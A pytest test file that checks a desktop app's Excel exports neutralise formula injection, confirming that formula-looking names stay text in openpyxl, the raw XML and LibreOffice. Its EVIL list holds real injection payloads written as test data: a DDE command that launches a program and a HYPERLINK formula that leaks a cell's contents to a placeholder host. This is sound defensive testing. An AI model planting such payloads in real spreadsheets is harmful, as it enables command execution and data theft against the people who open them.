"""No formula injection (issue 18): a name that looks like a formula goes through every workbook
the app writes as text — read back with openpyxl, in the raw XML (no <f> the app did not mean)
and with LibreOffice (the same string, no Err:509, nothing computed)."""

from __future__ import annotations

import csv
import dataclasses
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from hvp_desktop.reports import workbook_out
from hvp_desktop.reports.excel_import import parse_workbook, write_rejected, write_template
from hvp_desktop.reports.ranking_excel import write_ranking
from hvp_desktop.reports.rubric_excel import write_rubric_table
from hvp_desktop.scoring import rubric as rubrics
from hvp_desktop.store import ranking
from hvp_desktop.store.engine import WorkingFile
from tests.unit.reports.test_excel_import import AsText, bad_check_character, code, fill_template, minimal
from tests.unit.reports.test_ranking_excel import PASSWORD, build_round

EVIL = (
    "=cmd|' /C calc'!A0",  # the one the issue found as a live formula in every sheet
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
)


def formulas_in(path: Path) -> list[str]:
    """Every <f> element of every sheet of the package, as '<sheet part>!<text>'."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += [f"{name}!{m}" for m in re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", xml)]
    return found


def text_cells(path: Path) -> dict[str, list[str]]:
    """Sheet title → the string values openpyxl reads back; asserts no cell is a formula but the
    ones the app means (checked by the caller through `formulas_in`)."""
    book = load_workbook(path)
    out = {}
    for sheet in book.worksheets:
        values = []
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    values.append(cell.value)
                    if cell.value.startswith(workbook_out.RISKY_START) and cell.data_type != "f":
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
        out[sheet.title] = values
    return out


def libreoffice_cells(paths: list[Path], tmp_path: Path) -> dict[Path, list[str]]:
    """Every cell of every sheet of each workbook as LibreOffice reads it (CSV, raw values)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        message = "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    out_dir = tmp_path / "lo-csv"
    out_dir.mkdir()
    csv_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    done = subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless",
                           "--convert-to", csv_filter, "--outdir", str(out_dir), *map(str, paths)],
                          capture_output=True, text=True, timeout=180, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stdout + done.stderr
    cells: dict[Path, list[str]] = {}
    for path in paths:
        sheets = sorted(out_dir.glob(f"{path.stem}-*.csv")) or sorted(out_dir.glob(f"{path.stem}.csv"))
        assert sheets, f"LibreOffice wrote nothing for {path.name}: {done.stdout}{done.stderr}"
        values = []
        for sheet in sheets:
            with sheet.open(encoding="utf-8", newline="") as handle:
                values += [v for row in csv.reader(handle) for v in row if v]
        cells[path] = values
    return cells


@pytest.fixture(scope="module")
def ranking_view(tmp_path_factory):
    """A scored round's view with every applicant and expert renamed to a formula-looking name."""
    folder = tmp_path_factory.mktemp("injection")
    with WorkingFile.create(folder / "round.hvpdb", PASSWORD) as wf:
        round_id, _apps, _experts = build_round(wf)
        view = ranking.analyse_round(wf, round_id)
    names = {app: EVIL[i % len(EVIL)] for i, app in enumerate(sorted(view.names))}
    experts = {e: f"{EVIL[i % len(EVIL)]}" for i, e in enumerate(sorted(view.experts))}
    return dataclasses.replace(view, names=names, experts=experts, title=EVIL[0])


@pytest.fixture(scope="module")
def workbooks(ranking_view, tmp_path_factory) -> dict[str, Path]:
    """Every workbook the app writes, each carrying formula-looking text where it carries text."""
    folder = tmp_path_factory.mktemp("written")
    out = {"ranking": write_ranking(ranking_view, folder / "ranking.xlsx")}

    default = rubrics.default_rubrics()["recognition"]
    first = default.sections[0]
    criterion = dataclasses.replace(first.criteria[0], title=EVIL[0], guidance=EVIL[2])
    section = dataclasses.replace(first, title=EVIL[4], criteria=(criterion, *first.criteria[1:]))
    rubric = dataclasses.replace(default, title=EVIL[1], version=EVIL[3], sections=(section, *default.sections[1:]))
    write_rubric_table(rubric, folder / "rubric.xlsx")
    out["rubric"] = folder / "rubric.xlsx"

    write_template(folder / "template.xlsx")
    out["template"] = folder / "template.xlsx"

    source = fill_template(out["template"], folder / "source.xlsx", [
        minimal(1, enterprise_name=AsText(EVIL[0]), credit_code=bad_check_character(code(1)),
                contact_name=AsText(EVIL[5])),
        minimal(2, enterprise_name=AsText(EVIL[1]), credit_code="not a code"),
        minimal(3),
    ])
    result = parse_workbook(source)
    assert len(result.rejected) == 2
    write_rejected(result, folder / "rejected.xlsx")
    out["rejected"] = folder / "rejected.xlsx"
    return out


def test_the_ranking_has_the_names_as_text_in_every_sheet(workbooks, ranking_view):
    assert formulas_in(workbooks["ranking"]) == []
    cells = text_cells(workbooks["ranking"])
    assert len(cells) >= 3  # summary, one per expert, rubric
    for title, values in cells.items():
        if title.startswith("专家-"):
            assert EVIL[0] in values[0]  # the round's title
            assert any(v in EVIL for v in values), title  # the applicants' names, unchanged
    summary = cells[next(iter(cells))]
    assert set(ranking_view.names.values()) <= set(summary)


def test_the_rubric_table_keeps_text_as_text_and_its_own_total_formula(workbooks):
    found = formulas_in(workbooks["rubric"])
    assert len(found) == 1 and re.fullmatch(r".*!SUM\(F3:F\d+\)", found[0]), found
    values = text_cells(workbooks["rubric"])
    flat = [v for vs in values.values() for v in vs]
    assert {EVIL[0], EVIL[2], EVIL[4]} <= set(flat)
    assert any(EVIL[1] in v for v in flat)


def test_the_template_has_no_formula_cells(workbooks):
    assert formulas_in(workbooks["template"]) == []
    text_cells(workbooks["template"])


def test_the_rejected_rows_keep_their_text(workbooks):
    assert formulas_in(workbooks["rejected"]) == []
    flat = [v for vs in text_cells(workbooks["rejected"]).values() for v in vs]
    assert {EVIL[0], EVIL[1], EVIL[5]} <= set(flat)


def test_libreoffice_reads_the_same_strings_and_computes_nothing(workbooks, tmp_path):
    """The bar: LibreOffice shows each string as written, never Err:509 nor a computed result."""
    paths = [workbooks["ranking"], workbooks["rubric"], workbooks["rejected"]]
    cells = libreoffice_cells(paths, tmp_path)
    for path, values in cells.items():
        assert not [v for v in values if v.startswith(("Err:", "#NAME", "#VALUE", "#REF"))], path.name
    assert set(EVIL) <= set(cells[workbooks["ranking"]])
    assert {EVIL[0], EVIL[2], EVIL[4]} <= set(cells[workbooks["rubric"]])
    assert {EVIL[0], EVIL[1], EVIL[5]} <= set(cells[workbooks["rejected"]])


def test_the_helper_keeps_a_meant_formula_and_neutralises_the_rest(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet["A1"] = "=1+1"
    sheet["A2"] = "\t=1+1"
    sheet["A3"] = "plain"
    workbook_out.formula(sheet["B1"], "=SUM(A1:A3)")
    path = workbook_out.save_workbook(book, tmp_path / "h.xlsx")
    assert [f.split("!")[1] for f in formulas_in(path)] == ["SUM(A1:A3)"]
    back = load_workbook(path).active
    assert (back["A1"].value, back["A1"].data_type, back["A1"].quotePrefix) == ("=1+1", "s", True)
    assert back["A2"].value == "\t=1+1" and back["A3"].value == "plain" and not back["A3"].quotePrefix
    with pytest.raises(ValueError):
        workbook_out.formula(sheet["C1"], "not a formula")
